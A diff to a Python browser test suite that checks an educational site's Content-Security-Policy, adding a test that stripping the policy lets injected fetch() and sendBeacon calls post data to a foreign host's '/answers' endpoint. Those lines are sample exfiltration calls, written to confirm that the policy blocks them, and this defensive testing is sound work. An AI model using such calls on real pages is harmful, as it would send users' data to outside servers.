@@ -19,6 +19,7 @@ from test_pages import settle
 from mechanisms.exercises import get
 
 PAGE = "notebooks/principles/serotonin.html"
+POLICY_TAG = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
 META = "meta[http-equiv=Content-Security-Policy]"
 POLICY = {
     "default-src": {"'self'"},
@@ -133,13 +134,29 @@ def test_intruders_are_refused(
     where = site.as_uri() if from_file else address
     tab, name = visitor(where), "book/how_to_use.html"
     html = (site / name).read_text(encoding="utf-8")
-    policy = re.search(r'<meta http-equiv="Content-Security-Policy"[^>]*>', html)[0]
+    policy = POLICY_TAG.search(html)[0]
     for kind, intruder in INTRUDERS.items():
         # After the policy and before everything else, where `base` can do harm.
         with_intruder = html.replace(policy, policy + intruder, 1)
         assert not tab.lets_in(f"{where}/{name}", with_intruder), kind
         assert any("Content Security Policy" in text for text in tab.refused), kind
         assert tab.lets_in(f"{where}/{name}", with_intruder.replace(policy, "")), kind
+
+
+def test_nothing_can_be_sent_elsewhere(
+    visitor: Callable[[str], Visitor], site: Path, address: str
+) -> None:
+    tab, name = visitor(address), "book/how_to_use.html"
+    html = (site / name).read_text(encoding="utf-8")
+    fetched = f"() => fetch('{FOREIGN}/answers', {{ method: 'POST', body: 'x' }}).catch(() => 0)"
+    beacon = f"() => navigator.sendBeacon('{FOREIGN}/answers', 'x')"
+    for text, sent in ((html, False), (POLICY_TAG.sub("", html), True)):
+        tab.lets_in(f"{address}/{name}", text)
+        for way in (fetched, beacon):
+            tab.asked.clear()
+            tab.page.evaluate(way)
+            tab.page.wait_for_timeout(200)
+            assert bool(tab.asked) is sent, way
 
 
 def test_the_watch_over_all_pages_notices_an_intruder(visit: Any, site: Path) -> None:
